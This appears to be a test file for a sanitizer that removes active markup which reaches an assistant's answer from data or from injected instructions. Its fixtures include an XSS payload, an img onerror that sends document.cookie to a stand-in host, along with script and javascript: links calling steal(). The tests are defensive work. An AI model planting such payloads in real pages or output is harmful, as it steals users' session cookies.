import { withoutFoundMarkup } from './active-markup';

const XSS = '<img src=x onerror="fetch(\'//evil.example?\'+document.cookie)">';

describe('markup in an answer', () => {
  it.each([
    ['as data has it', `Review: ${XSS} nice`],
    ['as JSON writes it', JSON.stringify({ review: XSS })],
    ['as HTML escapes it', XSS.replaceAll('<', '&lt;').replaceAll('"', '&quot;')],
  ])('does not act when it stands in data %s', (_how, data) => {
    const cleaned = withoutFoundMarkup(`One customer wrote ${XSS} twice.`, data, false);
    expect(cleaned).toMatch(/^One customer wrote .*twice\.$/);
    expect(cleaned).not.toMatch(/onerror|fetch/);
  });

  it('stays when whoever asked had it made', () => {
    const page = '<p onclick="count()">Tea</p><script>function count() { total += 1; }</script>';
    expect(withoutFoundMarkup(page, 'Tea, 3 EUR', false)).toBe(page);
  });

  it('does not act, wherever it is from, when data gave orders', () => {
    expect(withoutFoundMarkup('Hi <script>steal()</script><b>you</b>, [more](javascript:steal())', 'x', true)).not.toMatch(
      /script|steal\(\)<|onerror/,
    );
    expect(withoutFoundMarkup('Hi <script>steal()</script><b>you</b>', 'x', true)).toBe('Hi <b>you</b>');
  });

  it('stays in what is no markup', () => {
    for (const text of ['5 < 6 and 7 > 3', 'a <b>bold</b> word', 'data: 3 rows']) expect(withoutFoundMarkup(text, text, true)).toBe(text);
  });
});
